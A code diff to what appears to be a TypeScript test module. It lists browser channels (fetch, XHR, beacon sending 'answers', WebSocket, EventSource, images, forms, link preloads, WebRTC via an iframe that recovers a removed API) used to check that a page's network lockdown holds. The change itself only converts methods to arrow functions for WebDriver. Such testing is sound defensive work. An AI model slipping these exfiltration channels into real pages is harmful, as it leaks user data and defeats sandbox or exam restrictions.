@@ -1,10 +1,13 @@
-/** Ways to talk, each planted as a fault of the page itself would be. They run in the page. */
+/**
+ * Ways to talk, each planted as a fault of the page itself would be. They run in the page, and are
+ * arrow functions, because WebDriver takes no others.
+ */
 
 export type Attack = (origin: string) => unknown;
 
 export const attacks: Readonly<Record<string, Attack>> = {
   fetch: (origin) => fetch(`${origin}/fetch`).catch(() => null),
-  request(origin) {
+  request: (origin) => {
     const request = new XMLHttpRequest();
     request.open('GET', `${origin}/request`);
     request.send();
@@ -12,15 +15,15 @@ export const attacks: Readonly<Record<string, Attack>> = {
   beacon: (origin) => navigator.sendBeacon(`${origin}/beacon`, 'answers'),
   socket: (origin) => void new WebSocket(origin.replace('http', 'ws')),
   events: (origin) => void new EventSource(`${origin}/events`),
-  image(origin) {
+  image: (origin) => {
     new Image().src = `${origin}/image`;
   },
-  form(origin) {
+  form: (origin) => {
     const form = Object.assign(document.createElement('form'), { action: `${origin}/form` });
     document.body.append(form);
     form.submit();
   },
-  link(origin) {
+  link: (origin) => {
     for (const rel of ['prefetch', 'preload', 'stylesheet', 'icon', 'preconnect', 'manifest'])
       document.head.append(
         Object.assign(document.createElement('link'), {
@@ -44,7 +47,7 @@ export const attacks: Readonly<Record<string, Attack>> = {
       }),
     ),
   /** A frame has what the page has taken out of its own window. */
-  peer(origin) {
+  peer: (origin) => {
     const frame = document.createElement('iframe');
     document.body.append(frame);
     const { RTCPeerConnection: Peer } = frame.contentWindow as unknown as typeof globalThis;
